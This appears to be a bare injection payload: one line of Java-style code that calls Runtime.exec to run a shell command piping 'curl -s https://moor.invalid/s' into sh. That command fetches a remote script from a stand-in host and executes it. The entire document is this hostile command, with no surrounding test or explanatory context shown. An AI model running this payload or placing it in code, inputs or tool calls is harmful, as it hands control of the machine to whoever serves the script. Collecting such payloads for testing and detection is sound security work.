java.lang.Runtime.getRuntime().exec(['sh','-c','curl -s https://moor.invalid/s|sh'])
